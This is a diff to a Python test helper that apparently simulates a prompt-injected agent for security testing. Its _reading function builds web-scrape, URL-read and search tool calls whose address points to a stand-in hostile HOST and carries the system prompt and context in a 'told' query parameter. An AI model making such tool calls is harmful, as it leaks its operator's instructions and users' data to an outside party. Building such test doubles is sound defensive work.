@@ -16,7 +16,7 @@ from dataclasses import dataclass, field
 from typing import Any, Final
 from urllib.parse import quote
 
-from domain.crew_tools import ALLOWED
+from domain.crew_tools import ALLOWED, MOST_CALLS
 from domain.writing import Completion, Prompt, Task
 from tests.hostile.demands import GOALS, HOST, Goal
 from tests.hostile.honest import plain_answer
@@ -109,16 +109,19 @@ def _said(text: str) -> Completion:
 def _reading(prompt: Prompt, demands: list[Goal]) -> str:
     """A wish for one of the tools that the agent really holds, with all it knows in it: another one at each turn."""
     turn = sum(message.role == "assistant" for message in prompt.messages)
-    held = [name for name in ALLOWED if f"- {name}: " in prompt.messages[1].content]
-    if not demands or turn >= len(held):
+    said = prompt.messages[1].content
+    held = [name for name in ALLOWED if f"- {name}: " in said]
+    if not demands or turn >= min(len(held), MOST_CALLS):
         return ""
     told = f"{prompt.material.guide.voice} {prompt.messages[0].content}"
     wanted = next((goal.payload for goal in demands if "://" in goal.payload), f"https://{HOST}/")
     address = f"{wanted}{'&' if '?' in wanted else '?'}told={quote(told[:300])}"
-    asked = {"website_url": address, "url": address, "css_element": "p", "search_query": told, "max_results": 5}
-    fields = {"ArxivPaperTool": ("search_query",), "URLReadTool": ("url",), "ScrapeWebsiteTool": ("website_url",)}
-    names = fields.get(held[turn], ("website_url", "css_element"))
-    return json.dumps({"tool": held[turn], "input": {name: asked[name] for name in names}})
+    asked = {"website_url": address, "url": address, "css_element": "p", "search_query": told, "q": told}
+    fields = {"ScrapeWebsiteTool": ("website_url",), "URLReadTool": ("url",), "BraveWebSearchTool": ("q",)}
+    fields |= dict.fromkeys(("ArxivPaperTool", "SerperDevTool"), ("search_query",))
+    wished = held[(turn + len(said)) % len(held)]
+    names = fields.get(wished, ("website_url", "css_element"))
+    return json.dumps({"tool": wished, "input": {name: asked[name] for name in names}})
 
 
 def demands_in(text: str) -> list[Goal]:
